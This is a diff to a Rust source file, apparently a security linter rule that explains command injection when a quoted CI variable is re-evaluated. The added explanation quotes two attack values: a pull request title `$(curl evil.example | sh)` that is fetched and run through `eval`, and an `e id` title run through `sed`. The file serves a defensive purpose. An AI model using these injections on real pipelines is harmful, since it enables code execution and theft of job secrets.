@@ -29,7 +29,8 @@ pub static AUDIT: Audit = Audit {
                  which can run commands; or leaves it without quotes among the arguments of a program with options that execute, such as `git` or `tar`.",
             ),
             why: text(
-                "A variable in quotes is safe only as long as nobody reads it as code once more. Here somebody does, with the job's token and secrets.",
+                "A variable in quotes is safe only as long as nobody reads it as code once more. Here somebody does, with the job's token and secrets: a pull \
+                 request titled `$(curl evil.example | sh)` is run by `eval \"echo $TITLE\"`, one titled `e id` by `sed \"$TITLE\"`.",
             ),
             fix: text(
                 "Give the text as data: as a quoted argument behind `--`, on standard input, or in the environment of the inner program. For `bash -c` pass it behind the code, \
